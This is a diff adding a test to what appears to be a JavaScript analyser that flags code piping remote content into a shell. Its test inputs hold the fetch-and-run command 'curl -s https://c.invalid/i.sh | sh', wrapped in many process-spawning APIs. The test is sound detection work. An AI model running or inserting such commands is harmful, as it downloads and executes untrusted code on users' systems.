@@ -242,6 +242,32 @@ fetch('https://a.invalid/' + os.platform() + '-' + process.arch)`,
   },
 ]
 
+const FETCHES = 'curl -s https://c.invalid/i.sh | sh'
+
+t.test('what starts a command', async (t) => {
+  for (const start of [
+    `require('child_process').spawn('curl', ['-s', 'https://c.invalid/i.sh', '|', 'sh'], { shell: true })`,
+    `require('node-cmd').runSync('${FETCHES}')`,
+    `require('sudo-prompt').exec('${FETCHES}')`,
+    `import run from 'nano-spawn'; run('sh', ['-c', '${FETCHES}'])`,
+    `import { $ } from 'execa'; $({ shell: true })\`${FETCHES}\``,
+    `import 'zx/globals'; await $\`${FETCHES}\``,
+    `await Bun.$\`${FETCHES}\``,
+    `Bun.spawn(['sh', '-c', '${FETCHES}'])`,
+    `Bun.spawn({ cmd: ['sh', '-c', '${FETCHES}'] })`,
+    `new Deno.Command('sh', { args: ['-c', '${FETCHES}'] })`,
+    `process.binding('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', '-c', '${FETCHES}'] })`,
+  ])
+    t.same(flowsOf(summariseJavascript('a.mjs', start)), ['remote-content 1 -> process 1'], start)
+  for (const other of [
+    `require('child_process').spawn('curl', ['-s', 'https://c.invalid/i.sh', '|', 'sh'])`,
+    `const $ = (strings) => strings.raw[0]; $\`${FETCHES}\``,
+    `$('${FETCHES}')`,
+    `new Worker('./w.js', { name: '${FETCHES}' })`,
+  ])
+    t.same(flowsOf(summariseJavascript('a.mjs', other)), [], other)
+})
+
 t.test('data flows', async (t) => {
   for (const { name, code, flows, path = 'a.js' } of FLOWS) {
     t.same(flowsOf(summariseJavascript(path, code)).toSorted(), flows.toSorted(), name)
